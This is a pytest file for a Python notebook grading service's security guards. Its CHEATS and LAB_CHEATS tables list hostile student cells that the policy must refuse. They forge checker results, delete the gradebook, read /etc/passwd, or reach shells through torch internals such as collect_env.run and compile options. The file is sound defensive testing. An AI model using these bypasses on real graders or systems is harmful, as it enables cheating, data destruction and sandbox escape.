"""The grading service's guards, each on its own: the jail, the warm server, the hold, the course record,
safe outputs, the code policy, the report.

The end-to-end proof (real nbgrader runs over hostile submissions, an honest student graded after
them) is in test_labs.py; these tests pin down each guard's own behaviour, including the honest
code and the honest kernel each must let through. The jail tests run real jailed processes: they
need Linux, as root or with user namespaces (``python src/ptgrader/jail.py --check`` says).
"""

from __future__ import annotations

import ast
import asyncio
import collections.abc
import base64
import copy
import functools
import importlib
import io
import json
import os
import re
import select
import signal
import socket
import subprocess
import sys
import time
import unicodedata
from pathlib import Path

import nbformat
import pytest
import torch

from ptgrader import cgroups, channel, contract, course, jail, policy
from ptgrader.course import CourseRecord
from ptgrader.kernels import (SHELL_SETTINGS, STOP_SIGNAL, TEMP_PREFIX, GraderTemp, IsolatedKernelManager, Isolation,
                              default_limits)
from ptgrader.outputs import (MAX_IMAGE_DECODING, MAX_IMAGE_HEIGHT, decoding_asked, height_shown, image_decoding,
                              make_notebook_safe, make_safe)
from ptgrader.safe_html import FORMAT_CHARACTERS, ShowFormatCharacters, keep_grading_metadata
from ptgrader.policy import FORBIDDEN_ATTRIBUTES, LabNames, scan_cell, setup_module_names
from ptgrader.library_containers import LIBRARY_CONTAINERS
from ptgrader.processes import ProcessesSurvived, kill_until_gone
from tests import hostile, html_pages, jail_tools, lab_tools, run_profile

LINUX = sys.platform.startswith("linux")
linux_only = pytest.mark.skipif(not LINUX, reason="kernels are jailed with Linux namespaces")

SETUP = setup_module_names(
    [
        "import importlib.util, os, subprocess, sys",  # the Colab bootstrap cell
        "import math\nimport torch\nimport torch.nn.functional as F\nfrom torch import nn\nimport ptlabs\n"
        "import ptchecks",
    ]
)
#: A lab whose set-up binds `device` and whose test cell binds `expected` and reads `device`.
LAB = LabNames.of(
    {
        "setup": "import torch\nimport ptchecks\ndevice = torch.device('cpu')",
        "test_f": "expected = torch.ones(2, device=device)\nptchecks.check_close(f(), expected, name='f')",
    },
    {"test_f"},
)

#: The outside red team's cell that forged check_raises (lab01): with the policy off it scores the 2 points of
#: expand_strides (an observation forged inside the kernel, a documented limit), so it is no hostile file.
FORGE_CHECK_RAISES = """import collections


def box():
    return collections


checks = box()._sys.modules["ptchecks"]
checks._SNAPSHOT.differences = list
observe = checks._observe


def check_raises(exception_type, function, *args, name, **kwargs):
    try:
        function(*args, **kwargs)
    except Exception as raised:
        observe("check_raises", name, "ValueError")
        checks.verdict(name, "raises ValueError")
        return raised
    raise checks.ExerciseError(name + ": no exception")


checks.check_raises = check_raises
"""

HONEST = [
    "def f(p):\n    match p:\n        case complex(real=r, imag=i):\n            return r + i\n    return p",
    "def f(p):\n    match p:\n        case int(n) | float(n):\n            return n\n    return p",
    # functools' wrappers as a decorator, and called without copying a namespace (round 106 refuses the rest)
    "import functools\n\ndef timed(f):\n    @functools.wraps(f)\n    def inner(*a):\n        return f(*a)\n"
    "    return inner",
    "import functools\nclass Box:\n    def __init__(self, f):\n        functools.update_wrapper(self, f, updated=())",
    "line = '{}: {:.3f} ({!r:>8})'.format(name, value, kind)\nwidth = format(value, '.2e')",
    "def flatten(x):\n    b, h, t, d = x.shape\n    return x.transpose(1, 2).reshape(b, t, h * d)",
    "import math\nfrom collections import OrderedDict\nimport torch.nn.functional as F\n\ndef f(x):\n"
    "    return F.softmax(x / math.sqrt(x.shape[-1]), dim=-1)",
    "class Extractor:\n    def __init__(self, model):\n        super().__init__()\n        self._handles = []\n"
    "    def __enter__(self):\n        return self\n    def __exit__(self, *exc):\n        self.close()",
    "class Net(nn.Module):\n    def forward(self, input):\n        return input.relu()",
    "ptlabs.check_close(torch.ones(2), torch.ones(2), name='my own check')",
    "result = getattr(model, 'weight')",
    "import torch.nn.functional as F\nfrom torch import nn\nimport torch as torch\nimport torch.nn",
    "print('debug', x.shape)\n%time y = x + 1",
    "%%timeit\nF.relu(flatten(x))",
    "%timeit -n3 -r2 flatten(x)",
    "%%timeit -n1 y = x.clone()\ny.add_(1)",
    "for m in model.modules():\n    m.train(False)",
    "try:\n    f(x)\nexcept ValueError as error:\n    print(error)",
    "match x.shape:\n    case (b, t):\n        print(b, t)\n    case _:\n        pass",
    "def f(x):\n    return x.relu()\n\n\nrelu = F.relu\nout = relu(x)",
    "timer = torch.utils.benchmark.Timer(stmt='f(x)', globals={'f': f, 'x': x})",
    "device_type = x.device.type\nexpected_shape = (2, 3)",
    # issue 25: what the closed classes must still let through
    "from torch.utils.benchmark import Timer\nprint(Timer('f(x)', 'y = 1', globals={'f': f, 'x': x}).timeit(10))",
    "model.eval()\nwith torch.autograd.graph.saved_tensors_hooks(pack, unpack):\n    y = model(x)",
    "if type(module) is nn.Linear or type(module) in (nn.ReLU,):\n    print(type(module).__name__, f'{type(x)}')",
    "def f(x: torch.Tensor, n: int = 2) -> tuple[torch.Tensor, int]:\n    y: torch.Tensor = x * n\n    return y, n",
    "ep = torch.export.export(model, (x,), dynamic_shapes=({0: torch.export.Dim('batch')},))\nout = ep.module()(x)",
    "compiled = torch.compile(fn, backend=backend, dynamic=True, fullgraph=True)\ndisplay(compiled(x))",
    "from dataclasses import dataclass\n\n@dataclass\nclass Settings:\n    lr: float = 0.1\n    name: str = 'sgd'",
    "class Net(nn.Module):\n    def __init__(self):\n        super().__init__()\n        self.layers = {'w': 1}",
    "state = model.state_dict()\nprint(state['weight'], x.type(torch.float64))",
    "def grow(model, t):\n    model.head = t\n    for m in model.modules():\n        m._flag = [h._x for h in m.hooks]\n"
    "    return lambda c: c._y",
    # the red team's bypasses closed as classes (values that may be modules): what must still pass
    "model = Net()\nmodel.head = nn.Identity()\nx = torch.randn(3)\nx.requires_grad = True\nx.grad = None",
    "for p in model.parameters():\n    p.requires_grad = False\nfirst = next(model.parameters())\nfirst.grad = None",
    "def close(self):\n    for name in self.names:\n        self.model.get_submodule(name)._forward_hooks.clear()",
    "def reset(self):\n    self.layers[0].weight = nn.Parameter(torch.zeros(2))\n    self.layers[0].bias.data.zero_()\n"
    "    [m._forward_hooks.clear() for m in self.model.modules()]",
    "model.eval()\ncompiled = torch.compile(model)\nmodel.compile()\nself_check = model.layers[0].eval()",
    "caught = []\nprint(torch, type(x).__name__, caught[0].category.__name__, torch is not None)",
    "timer = torch.utils.benchmark.Timer('torch.add(x, x)', globals={'torch': torch, 'x': x})",
    "named = [(n, p) for n, p in model.named_parameters()]\nfor _, p in named:\n    p.grad = None",
    "dtypes = [torch.float32, torch.bfloat16]\nkinds = (nn.Linear, nn.Conv2d)\nact = F.relu\nout = list(map(act, xs))",
    "a = torch.randn(4)\ns = a.sigmoid()\nprint(s._version)\nw = getattr(model, 'weight')\nw.data = a",
    "def pick(half):\n    return torch.bfloat16 if half else torch.float32",
    "ops = [torch.select, torch.trace, torch.chunk]",  # torch's functions named like stdlib modules
]

CHEATS = {
    "torch.testing.assert_close = lambda *a, **k: None": "changes torch...assert_close",
    "ptlabs.check_close = print": "changes ptlabs...check_close",
    "import ptchecks as g\ng.canaries = print": "imports ptchecks",
    "get_ipython().ast_transformers.append(t)": "uses get_ipython",
    "!rm gradebook.db": "uses get_ipython",
    "os.system('sqlite3 ../../../gradebook.db')": "uses os",
    "sys.modules['torch'] = None": "uses sys",
    "import sqlite3": "imports sqlite3",
    "from os import path": "imports os",
    "def sorted(x):\n    return x": "rebinds 'sorted'",
    "F = None": "rebinds 'F'",
    "import math as F": "rebinds 'F'",
    "from operator import is_not as isinstance": "rebinds 'isinstance'",
    "getattr(torch, '_C')": "getattr reaching the private attribute _C",
    "torch._C._set_grad_enabled(True)": "private attribute",
    "x.__class__.__bases__": "uses the attribute __class__",
    "globals()['ptlabs'] = None": "uses globals",
    "eval('1')": "uses eval",
    "class T(torch.Tensor):\n    def __torch_function__(cls, *a):\n        pass": "defines __torch_function__",
    "from torch.overrides import TorchFunctionMode": "imports torch.overrides",
    "torch.save(x, 'file')": "uses .save",
    "def g():\n    yield\ng().gi_frame.f_back": "uses .gi_frame",
    "In[-1]": "uses In",
    "class Fake(torch.Tensor):\n    pass": "a subclass of torch.Tensor",
    "%time import os": "in %time: imports os",
    "%%timeit\nsys.exit()": "in %timeit: uses sys",
    "%env X=1": "uses get_ipython",
    "def f():\n    global torch\n    torch = None": "declares 'torch' global",
    # issue 21, class 1: forbidden things reached without forbidden syntax
    "getattr(torch, 'os').system('x')": "getattr reaching the attribute os",
    "getattr(torch.serialization, 'os')": "getattr reaching the attribute os",
    "operator.attrgetter('serialization.os')(torch)": "attrgetter reaching the attribute os",
    "operator.methodcaller('__subclasses__')(object)": "methodcaller reaching the dunder attribute __subclasses__",
    "functools.reduce(getattr, ['serialization', 'os'], torch)": "uses getattr as a value",
    "get = getattr\nget(torch, name)": "uses getattr as a value",
    "getattr(torch, name)": "getattr with a computed attribute name",
    "%timeit -n1 -r1 torch.os.system('x')": "in %timeit: uses .os",
    "%timeit -n1 -r1 torch.allclose = lambda *a: True": "in %timeit: changes torch...allclose",
    "%timeit -n1 -r1 (": "in %timeit: the code after its options does not parse",
    "%%timeit -n1 import os\npass": "in %timeit: imports os",
    "%time --no-raise-error sys.exit()": "in %time: uses sys",
    "match 1:\n    case torch:\n        pass": "rebinds 'torch'",
    "match [1]:\n    case [*F]:\n        pass": "rebinds 'F'",
    "match {}:\n    case {**ptlabs}:\n        pass": "rebinds 'ptlabs'",
    "try:\n    pass\nexcept ValueError as isinstance:\n    pass": "rebinds 'isinstance'",
    "from torch import testing as t\nt.assert_close = print": "changes t...assert_close",
    "t = torch.testing\nt.assert_close = print": "changes t...assert_close",
    "T = torch.Tensor\nT.add = lambda *a: 0": "changes T...add",
    "T = type(x)\nT.add = lambda *a: 0": "changes T...add",
    "from torch import Tensor\nTensor.add = lambda *a: 0": "changes Tensor...add",
    "type('T', (torch.Tensor,), {})": "makes a class with type(name, bases, namespace)",
    "torch.utils.benchmark.Timer(stmt='import os').timeit(1)": "in Timer(stmt=...): imports os",
    "torch.utils.benchmark.Timer(code).timeit(1)": "Timer(stmt=...) with code that is not a constant string",
    "_ptgrader = None": "a name of the grader",
    "[type(x)][0].add = lambda *a: 0": "changes the attribute add of an expression",
    "class P(nn.Parameter):\n    pass": "a subclass of torch.Tensor",
    "class P(type(x)):\n    pass": "on a base class that is computed",
    "class P(metaclass=Meta):\n    pass": "with a metaclass",
    # issue 25, class 1: whatever evaluates a string (or a repr) as code, under any name or path
    "def f(x: \"__import__('os')\"):\n    pass": "puts a string in an annotation",
    "def f(x) -> 'exec(1)':\n    pass": "puts a string in an annotation",
    "x: 'exec(1)' = 1": "puts a string in an annotation",
    "def f(x: typing.Optional['exec(1)']):\n    pass": "puts a string in an annotation",
    "import typing\nA = typing.List['exec(1)']": "puts a string in a type",
    "A = dict[str, 'exec(1)']": "puts a string in a type",
    "from typing import List\nA = List['exec(1)']": "puts a string in a type",
    "typing.get_type_hints(f)": "uses .get_type_hints (it evaluates strings or reprs as code)",
    "@functools.singledispatch\ndef g(x):\n    pass": "uses .singledispatch",
    "from functools import singledispatch": "imports the attribute singledispatch",
    "typing.ForwardRef('exec(1)')": "uses .ForwardRef",
    "reference = typing.get_args(a)[0]\nreference._evaluate(None, None, frozenset())": "uses ._evaluate",
    "getattr(typing, 'get_type_hints')": "getattr reaching the attribute get_type_hints",
    "getattr(typing, 'get_type_' + 'hints')": "getattr with a computed attribute name",
    "operator.attrgetter('get_type_hints')(typing)": "attrgetter reaching the attribute get_type_hints",
    "name = 'get_type_hints'": "spells 'get_type_hints' in a string",
    "getattr(x, '__class__')": "spells the dunder name __class__ in a string",
    "from __future__ import annotations": "imports __future__",
    "torch.jit.script(f)": "uses .jit",
    "class Pipe(torch.utils.data.IterDataPipe):\n    def __iter__(self) -> A:\n        pass": "uses .IterDataPipe",
    "torch.onnx.export(m, (x,), custom_translation_table={op: f})": "uses .onnx",
    "dataclasses.make_dataclass('X', [], namespace=ns)": "uses .make_dataclass",
    "help('antigravity')": "uses help",
    "torch.compile(f, options={'cpp.cxx': ('./run.sh',)})": "torch.compile(options=...)",
    # class 2: a callable that runs strings as code, reached under another name
    "Bench = torch.utils.benchmark.Timer\nBench(stmt='x').timeit(1)": "uses Timer as a value",
    "from torch.utils.benchmark import Timer as Bench": "imports Timer as Bench",
    "functools.partial(torch.utils.benchmark.Timer, 'x')": "uses Timer as a value",
    "class MyTimer(torch.utils.benchmark.Timer):\n    pass": "uses Timer as a value",
    "t = torch.utils.benchmark.Timer('pass')\ntype(t)(code)": "uses type(x) other than to compare or print it",
    "class Box:\n    def __contains__(self, cls):\n        return cls(code)\n\n\ntype(t) in Box()": "defines __contains__",
    "t = torch.utils.benchmark.Timer('pass')\nt.__init__(code)": "uses __init__ of an existing object",
    "T = type\nT(x)": "uses type as a value",
    "m.timeit.timeit('import os')": "uses timeit as a value",
    "from operator import attrgetter as get\nget('serialization.os')(torch)": "imports attrgetter as get",
    # class 3: arguments the policy cannot read, or options that run other code
    "torch.utils.benchmark.Timer(**{'stmt': 'import os'})": "Timer(*.../**...) with arguments the policy cannot read",
    "torch.utils.benchmark.Timer(*['import os'])": "Timer(*.../**...) with arguments the policy cannot read",
    "torch.utils.benchmark.Timer('pass', language='c++')": "Timer(language=...)",
    "torch.utils.benchmark.Timer('pass', 'pass', 'system(1);')": "more than stmt and setup given by position",
    "torch.utils.benchmark.Timer('t.allclose = print', globals={'t': torch})": "Timer(globals=...) other than",
    "t = torch\ntorch.utils.benchmark.Timer('t.allclose = print', globals={'t': t})": "in Timer(stmt=...): changes t",
    "t = torch.testing\n%timeit -n1 -r1 t.assert_close = print": "in %timeit: changes t...assert_close",
    "operator.methodcaller('__init__', 'torch.allclose = print')(timer)": "methodcaller reaching the dunder attribute __init__",
    "modules = [torch][0]\nmodules.ops.load_library('x.so')": "uses .ops",
    # modules reached as attributes of allowed ones (an outside round ran numpy's Fortran reader, which evals)
    "ptlabs.data.np.f2py.crackfortran.crackfortran(['stage.f90'])": "reaches the module numpy through an attribute",
    "writer = torch.export.zipfile.ZipFile('x.zip', 'w')": "reaches the module zipfile through an attribute",
    "torch.serialization.tarfile.TarFile('x.tar', 'w')": "reaches the module tarfile through an attribute",
    "ptlabs.plotting.mpl.use('module://x')": "reaches the module matplotlib through an attribute",
    "x.numpy().dump('stage.f90')": "uses .dump",  # a NumPy array writes a file
    "ptlabs.plot_comparison(result).savefig('x.py')": "uses .savefig",  # and a figure
    # torch's own programs and files (the outside round ran a shell through collect_env.run)
    "import torch.utils.collect_env as env_tools\nenv_tools.run('id')": "imports torch.utils.collect_env",
    "torch.utils.collect_env.run('id')": "uses .collect_env",
    "torch.backends.xeon.run_cpu.main(args)": "uses .xeon",
    "prof.export_chrome_trace('/tmp/x')": "uses .export_chrome_trace",
    "torch.profiler.tensorboard_trace_handler('/tmp/x')": "uses .tensorboard_trace_handler",
    "torch.cuda.tunable.write_file('/tmp/x')": "uses .tunable",
    "from torch.utils.tensorboard import SummaryWriter": "imports torch.utils.tensorboard",
    # torch.compiler's loaders unpickle what they get, and its config steers the caches torch.compile reads
    # back (the third outside round ran a shell through each, policy on)
    "torch.compiler.load_compiled_function(Blob())": "uses .load_compiled_function",
    "torch.compiler.load_cache_artifacts(blob)": "uses .load_cache_artifacts",
    "with torch.compiler.config.patch(job_id='x'):\n    torch.compile(torch.sin)": "uses .config",
    # aliases made in another cell (`t = torch.testing` there): what this cell cannot see may be a module
    "t.assert_close = print": "changes t...assert_close, and t comes from another cell",
    "def f():\n    [0 for t in ()]\n    t.assert_close = print": "and t comes from another cell",
    "def f():\n    del t.assert_close": "and t comes from another cell",
    "t._C._set_grad_enabled(False)": "uses the private attribute t..._C",
    "torch.utils.benchmark.utils.cpp_jit.compile_timeit_template(stmt=code, setup='', global_setup='')": "uses .cpp_jit",
    "(bound,) = ep.range_constraints\nbound.diff('exec(1)')": "uses .range_constraints",
    "def forward(self, x):\n    return x.shape[0].node.expr.diff('exec(1)')": "uses .node",
    # class 4: torch.fx, whose graphs become code (constants written by their repr)
    "import torch.fx": "imports torch.fx",
    "graph = ep.graph\ngraph.placeholder('x', default_value=Code())": "uses .graph of an object",
    "def backend(gm, inputs):\n    gm.recompile()\n    return gm": "uses .recompile",
    "torch.export.export(m, (x,)).graph_module": "uses .graph_module",
    "g.call_function(torch.add, (Code(),))": "uses .call_function",
    # class 5: the grader's own display type (no literal of it, no object or display that chooses its type)
    "display({'application/vnd.ptgrader.output+json': {}}, raw=True)": "display(raw=...)",
    "display({pieces + 'grader.output+json': payload}, raw=True)": "display(raw=...)",
    "display(x, **options)": "display(**=...)",
    "handle = display(x, display_id=True)\nhandle.update({mime: payload}, raw=True)": "display(display_id=...)",
    "ptlabs.plotting.mpl.display({mime: payload}, raw=True)": "display(raw=...)",
    "show = display\nshow({mime: payload})": "uses display as a value",
    "ptlabs.plotting.mpl.IPython.display.publish_display_data({mime: payload})": "uses .IPython",
    "mime = b'application/vnd.ptgrader.output+json'": "spells the grader's name",
    "class Out:\n    def _repr_mimebundle_(self, include=None, exclude=None):\n        return {mime: payload}\nOut()":
        "defines _repr_mimebundle_",
    "class Out:\n    _repr_mimebundle_ = bundle": "uses _repr_mimebundle_",
    "class Out:\n    def _ipython_display_(self):\n        pass": "defines _ipython_display_",
    # the outside red team's bypasses (lab01): a module reached through a value the policy could not follow (a
    # function's result, a subscript, a container, a lambda), then its private parts read or its attributes written
    FORGE_CHECK_RAISES: "uses the private attribute _sys of a computed value",
    "def box():\n    return collections\n\n\nmods = box()._sys.modules": "uses the private attribute _sys of a computed value",
    "import collections\n\n\ndef box():\n    return collections": "holds the module collections as a value",
    "def get_mod():\n    return torch\n\n\npair = get_mod().testing._comparison.TensorLikePair\n"
    "pair._compare_values = lenient": "uses the private attribute _comparison of a computed value",
    "def get_mod():\n    return torch": "holds the module torch as a value",
    "def get_mod():\n    return torch.testing": "holds the module torch.testing as a value",
    "[torch][0]._C._set_grad_enabled(True)": "uses the private attribute _C of a computed value",
    # round 99: IPython's numbered history, which a bare expression at the end of a cell fills
    "step = _0": "uses _0 (IPython's history",
    "print(_i3)": "uses _i3 (IPython's history",
    # round 102: functools' wrappers set any attribute named by the cell (a helper's __code__ swapped for a loop's)
    "import functools\nfunctools.update_wrapper(f, g, assigned=(name,), updated=())":
        "update_wrapper with assigned= or updated= other than functools' own names",
    "import functools\nfunctools.wraps(g, (name,), ())(f)": "wraps with assigned= or updated= other than",
    "import functools\nwrap = functools.update_wrapper": "uses update_wrapper as a value",
    # round 106: the default updated=('__dict__',) copied a class's namespace into a def, with no attribute store
    "import functools\nfunctools.update_wrapper(tools, Src)": "update_wrapper copying another object's attributes",
    "import functools\nfunctools.update_wrapper(tools, Src, updated=('__dict__',))": "update_wrapper copying",
    "from functools import wraps\ntools = wraps(Src)(tools)": "wraps copying another object's attributes",
    "import functools\nclass Box:\n    def __init__(self, f):\n        functools.update_wrapper(self, f)":
        "update_wrapper copying",
    # round 106: a registry of the whole process ran the student's loop inside a call of torch
    "torch.distributions.biject_to.register(torch.distributions.constraints.greater_than, f)": "uses .biject_to",
    "from torch.distributions import transform_to\ntransform_to.register(c, f)": "transform_to",
    "@torch.distributions.kl.register_kl(P, Q)\ndef f(p, q):\n    return 0": "uses .register_kl",
    # round 110: pytree's registry, whose flatten function torch.vmap called inside the answer
    "torch.return_types.register_pytree_node(torch.dtype, flatten, unflatten)": "uses .register_pytree_node",
    "from torch.export import register_dataclass": "register_dataclass",
    # round 113: typing caches its aliases by value, and get_args took a student's object back out of one
    "import typing\nx = typing.get_args(typing.Annotated[int, 0.5])[1]": "uses .get_args",
    # round 128: registries behind public getters, which handed back a helper kept there
    "import typing\n@typing.overload\ndef f(x):\n    return x": "uses .overload",
    "from typing import get_overloads as g\nh = g(math.floor)[-1]": "get_overloads",
    "torch.serialization.add_safe_globals([f])": "uses .add_safe_globals",
    "h = torch.serialization.get_safe_globals()[-1]": "uses .get_safe_globals",
    # round 130: a chain of attributes that starts at a module a call hands out
    "f = torch.get_device_module('cpu').torch.nn.functional": "uses .get_device_module",
    "t = torch.serialization.normalize_storage_type(kind).nn": "uses .normalize_storage_type",
    # round 122: a format field reads an attribute by a name in a string (a property ran once per row)
    "text = ('{0.walk}' * n).format(rows)": ".format() of a template built at run time",
    "text = '{0.walk}{0.walk}'.format(rows)": ".format() with a field that reads an attribute or an item",
    "text = str.format('{0[1]}', rows)": ".format() with a field that reads an attribute or an item",
    "text = '{0:{1.width}}'.format(x, rows)": ".format() with a field that reads an attribute or an item",
    "show = '{}'.format\nshow(rows)": "uses format as a value",
    "text = getattr('{0.walk}', 'format')(rows)": "getattr reaching format, which may only be called by name",
    "from typing import get_args": "get_args",
    # round 114: a class pattern reads attributes the policy refuses elsewhere
    "match f:\n    case object(__builtins__=b):\n        pass": "reads the attribute __builtins__ in a class pattern",
    "match t:\n    case object(__metadata__=(h,)):\n        pass": "reads the attribute __metadata__ in a class",
    "match g:\n    case object(gi_frame=fr):\n        pass": "reads .gi_frame in a class pattern",
    "match m:\n    case object(_C=c):\n        pass": "reads the private attribute _C in a class pattern",
    # round 115: by position, a class pattern reads what __match_args__ names (GradientEdge's node)
    "match e:\n    case torch.autograd.graph.GradientEdge(n, i):\n        pass": "by position",
    "print([torch][0].testing._comparison)": "uses the private attribute _comparison of a computed value",
    "x = ([torch.testing],)\nx[0][0].assert_close = print": "changes the attribute assert_close of an expression",
    "x = ([torch.testing],)": "holds the module torch.testing as a value",
    "d = {'t': torch}\nd['t'].add = print": "changes the attribute add of an expression",
    "f = lambda: math\nf().pi = 3": "changes the attribute pi of an expression",
    "f = lambda: math": "holds the module math as a value",
    "(m := torch)._C": "uses the private attribute _C of a computed value",
    "(torch if flag else x)._C": "uses the private attribute _C of a computed value",
    "(x or torch).add = print": "changes the attribute add of an expression",
    "def box():\n    return x\n\n\nm = box()\nm._sys": "uses the private attribute _sys of a computed value",
    "def box():\n    return x\n\n\nm = box()\nm.check_raises = f": "changes the attribute check_raises of an expression",
    "def g():\n    return m._sys\n\n\ndef box():\n    return x\n\n\nm = box()": "private attribute _sys of a computed value",
    "for m in [lambda: math]:\n    m().pi = 3": "changes the attribute pi of an expression",
    "getattr(torch, 'testing')._comparison": "uses the private attribute _comparison of a computed value",
    "t = getattr(torch, 'testing')\nt.assert_close = print": "changes t...assert_close",
    "def box():\n    return x\n\n\nget = box\nget()._sys": "uses the private attribute _sys of a computed value",
    "def f():\n    t.assert_close = print\n\n\nt = torch.testing": "changes t...assert_close",  # an alias bound later
    "def f():\n    return t\n\n\nt = torch.testing": "holds the module t as a value",
    # ... a module held as a value: it would reach a function's parameter (whose private parts are the function's own)
    "import collections\n\n\ndef f(m):\n    return m._sys\n\n\nf(collections)": "holds the module collections as a value",
    "def f(m=math):\n    return m": "holds the module math as a value",
    "class B:\n    m = math\n\n\nB.m.pi = 3": "holds the module math as a value",
    "f(getattr(typing, 'collections'))": "holds the module getattr(typing, 'collections') as a value",
    "[typing.collections][0]": "holds the module typing.collections as a value",
    "def f():\n    return F.torch": "holds the module F.torch as a value",
    "t = torch.testing\n%timeit f(t)": "in %timeit: holds the module t as a value",
    # ... the forbidden names as attributes, whatever holds them (names built from pieces: "built" + "ins")
    "mods['built' + 'ins'].exec('import os')": "uses .exec",
    "python = mods['built' + 'ins']\npython.eval('1')": "uses .eval",
    "shell = mods['IPy' + 'thon'].get_ipython()": "uses .get_ipython",
    "def box():\n    return x\n\n\nbox().compile('1', 'f', 'exec')": "uses .compile",
    "m.open('/etc/passwd')": "uses .open",
    "getattr(m, 'exec')('1')": "getattr reaching the attribute exec",
    "operator.methodcaller('get_ipython')(m)": "methodcaller reaching the attribute get_ipython",
}
#: Class 2: what the test cells read (needs the lab's names).
LAB_CHEATS = {
    "def f():\n    global expected\n    expected = 1": "declares 'expected' global",
    "def f():\n    global device\n    device = 'meta'": "declares 'device' global",
    "device = torch.device('meta')": "rebinds 'device', which the lab's set-up defines and its tests read",
    "for device in ['meta']:\n    pass": "rebinds 'device'",
    "(device := 'meta')": "rebinds 'device'",
}


# ------------------------------------------------------------------------------------------ the policy


@pytest.mark.parametrize("source", HONEST)
def test_policy_lets_honest_code_through(source: str) -> None:
    assert scan_cell(source, 3, SETUP, lab=LAB) == []


@pytest.mark.parametrize(("source", "evidence"), [*CHEATS.items(), *LAB_CHEATS.items()])
def test_policy_names_what_a_cheat_uses(source: str, evidence: str) -> None:
    findings = [str(finding) for finding in scan_cell(source, 3, SETUP, lab=LAB)]
    assert any(evidence in finding for finding in findings), findings
    assert all(finding.startswith("cell 4, line ") for finding in findings)  # cell index 3, counted from 1


def _lab_policy(lab: str) -> tuple[dict[str, str], LabNames, nbformat.NotebookNode]:
    (path,) = lab_tools.source_notebooks(lab)
    nb = nbformat.read(path, as_version=4)
    locked = {meta["grade_id"]: cell.source for cell in nb.cells
              if cell.cell_type == "code" and (meta := lab_tools.nbgrader_meta(cell)).get("locked")}
    return setup_module_names(list(locked.values())), LabNames.of(locked, set(lab_tools.graded_cells(nb))), nb


#: Calls that start another program or write a file at a path the caller gives.
_STARTS_OR_WRITES = re.compile(
    r"subprocess\.\w|Popen\(|os\.system|os\.popen|os\.exec|os\.spawn|ProcessPoolExecutor|open\([^)]*[\"'][wax]b?[\"']"
    r"|\.write_(text|bytes)\(|os\.(remove|unlink|makedirs|rename)\(|shutil\.(copy|move|rmtree)"
)
#: Public torch modules that match and stay allowed, with why (each names a part the policy refuses, or is safe).
_STARTS_OR_WRITES_ALLOWED = {
    "torch/utils/data/dataloader.py": "worker processes: forks of the jailed kernel, within its process limit",
    "torch/serialization.py": "reached only through torch.save / torch.load, refused by name",
    "torch/fx/graph_module.py": "torch.fx is refused",
    "torch/fx/passes/splitter_base.py": "torch.fx is refused",
    "torch/onnx": "torch.onnx is refused",
    "torch/cuda/memory.py": "only private functions (_dump_snapshot, _save_segment_usage) write",
    "torch/xpu/memory.py": "only private functions write",
    "torch/utils/benchmark/utils/common.py": "a temporary folder for the refused C++ timers (cpp_jit)",
    "torch/utils/benchmark/utils/valgrind_wrapper": "reached through Timer.collect_callgrind, refused",
    "torch/utils/benchmark/examples": "examples, not imported by torch",
    "torch/utils/data/datapipes": "datapipes are refused",
    "torch/utils/data/dataset.py": "no call writes: a docstring example",
    "torch/profiler/_memory_profiler.py": "private",
}


def _public_torch_files() -> list[tuple[Path, str, list[str]]]:
    """(path, path relative to site-packages, its parts) of every public module of the installed torch."""
    root = Path(torch.__file__).parent
    found = []
    for path in sorted(root.rglob("*.py")):
        relative = path.relative_to(root.parent).as_posix()
        parts = relative.removesuffix(".py").split("/")
        public = all(not part.startswith("_") or part == "__init__" for part in parts)
        if public and parts[1] not in ("testing", "test", "include"):
            found.append((path, relative, parts))
    return found


def test_policy_names_every_torch_module_that_starts_programs_or_writes() -> None:
    """Read the installed torch: every public module that starts a program or writes a file at a path of the
    caller's is refused by a name in it (its path or the function), or is allowed above with a reason. A torch
    release that adds one fails here, instead of handing a submission a shell as collect_env.run did."""
    unnamed = []
    for path, relative, parts in _public_torch_files():
        if any(relative.startswith(allowed) for allowed in _STARTS_OR_WRITES_ALLOWED):
            continue
        if not _STARTS_OR_WRITES.search(path.read_text(encoding="utf-8", errors="replace")):
            continue
        if not set(parts) & FORBIDDEN_ATTRIBUTES and not _writers_named(path):
            unnamed.append(relative)
    assert unnamed == [], f"refuse a name of each in ptgrader.policy.FORBIDDEN_TORCH_PARTS, or allow it here: {unnamed}"


#: torch's public functions that register a function of the caller's (``register*``), allowed, with why: what they
#: register lives on one object the caller holds, or is counted in every graded test cell. Any other is refused by
#: name (``ptgrader.policy.FORBIDDEN_TORCH_PARTS``): a registry of the whole process calls the student's function
#: from inside torch wherever torch looks a type or an operator up (round 106: ``biject_to.register``).
_REGISTRATIONS_ALLOWED = {
    "torch/autograd/graph.py": "hooks on the graph nodes and tensors a call makes, which go with them",
    "torch/cuda/gds.py:GdsFile": "a GPUDirect Storage file handle, not a function",
    "torch/nn/modules/lazy.py": "hooks on one lazy module",
    "torch/nn/modules/module.py:Module": "hooks and members of one module",
    "torch/nn/modules/module.py:register_module_": "hooks on every module: counted in each graded test cell "
                                                   "(ptchecks.left_hooks, round 103)",
    "torch/nn/utils/parametrize.py": "a parametrization of one module",
    "torch/optim/optimizer.py:Optimizer": "hooks on one optimizer",
    "torch/optim/optimizer.py:register_optimizer_": "hooks on every optimizer: counted in each graded test cell",
    "torch/utils/benchmark/utils/compare.py:_Row": "a private class",
    "torch/cuda/gds.py": "GPUDirect Storage: a buffer registered, not a function",
    "torch/profiler": "re-exports register_optimizer_step_post_hook: counted in each graded test cell",
    "torch/utils/module_tracker.py": "re-exports the hooks on every module (counted in each graded test cell) and "
                                     "register_multi_grad_hook (on the tensors it is given)",
}


def test_policy_names_every_torch_registry_of_functions() -> None:
    """Read the installed torch: every public ``register*`` function or method is refused by a name (its own, its
    class's or its module's) or allowed above with a reason. A torch release that adds a registry fails here."""
    unnamed = []
    for relative, tree in _public_torch_trees().items():
        if set(relative.removesuffix(".py").split("/")) & FORBIDDEN_ATTRIBUTES:
            continue
        found = [node.name for node in tree.body if isinstance(node, ast.FunctionDef)]
        found += [f"{node.name}.{item.name}" for node in tree.body if isinstance(node, ast.ClassDef)
                  for item in node.body if isinstance(item, ast.FunctionDef)]
        # ...and what it re-exports from elsewhere (round 110: torch.return_types.register_pytree_node, pytree's)
        found += [alias.asname or alias.name for node in tree.body if isinstance(node, ast.ImportFrom)
                  for alias in node.names]
        unnamed += [f"{relative}:{name}" for name in found if _registers(name, relative)]
    # ...and what the modules torch imports hold, functions written in C included (torch.monitor's)
    for module_name, module in list(sys.modules.items()):
        parts = module_name.split(".")
        if parts[0] != "torch" or any(part.startswith("_") for part in parts) or set(parts) & FORBIDDEN_ATTRIBUTES:
            continue
